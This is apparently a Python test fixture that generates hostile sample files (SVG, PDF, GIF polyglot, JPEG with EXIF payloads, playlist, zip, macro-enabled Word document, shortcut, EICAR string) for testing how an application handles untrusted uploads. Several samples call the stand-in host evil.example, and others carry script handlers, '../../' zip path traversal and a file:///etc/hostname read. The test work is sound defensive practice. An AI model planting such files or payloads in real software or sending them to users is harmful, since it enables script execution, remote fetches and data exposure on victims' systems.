"""Files of strangers that would run or call something, if any program of ours let them."""

from __future__ import annotations

import io
import zipfile

from PIL import Image

from tests.caseboard.hostile.payloads import DO, PAYLOADS

_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
onload="{DO}"><script>{DO}</script><image xlink:href="http://evil.example/x"/></svg>"""
_PDF = b"""%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);)>>
/AA<</WC<</S/URI/URI(http://evil.example/x)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link
/Rect[0 0 200 200]/A<</S/Launch/F(http://evil.example/x)>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF"""
_PLAYLIST = b"#EXTM3U\n#EXTINF:1,\nhttp://evil.example/x\n#EXTINF:1,\nfile:///etc/hostname\n"


def hostile_files() -> dict[str, bytes]:
    """Return at most ten files by name."""
    return {
        "todo.html": "\n".join(PAYLOADS).encode("utf-8", "replace"),
        "dibujo.svg": _SVG.encode(),
        "acciones.pdf": _PDF,
        "dicho.jpg": _picture_that_speaks(),
        "doble.gif": b"GIF89a/*\x01\x00\x01\x00*/=1;" + DO.encode() + b"//",
        "lista.m3u8": _PLAYLIST,
        "nombres.zip": _names(),
        "macro.docm": _office(),
        "atajo.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "eicar.com": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    }


def _picture_that_speaks() -> bytes:
    """A photo whose every text field is a payload."""
    target, said = io.BytesIO(), Image.Exif()
    for place, tag in enumerate((0x010D, 0x010E, 0x010F, 0x0131, 0x013B, 0x8298)):
        said[tag] = PAYLOADS[place]
    comment = PAYLOADS[7].encode()
    Image.new("RGB", (40, 30), "navy").save(target, "JPEG", exif=said, comment=comment)
    return target.getvalue()


def _names() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as packed:
        for number, payload in enumerate(PAYLOADS):
            packed.writestr(f"../../{number}{payload}", b"x")
    return target.getvalue()


def _office() -> bytes:
    """A document that asks for its template and its picture from elsewhere."""
    target = io.BytesIO()
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override '
        'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
        'macroEnabled.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" '
        f'Type="{relation}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>hola</w:t>'
        "</w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="b" Type="{relation}/attachedTemplate" TargetMode="External" '
        'Target="http://evil.example/x"/></Relationships>',
    }
    with zipfile.ZipFile(target, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return target.getvalue()
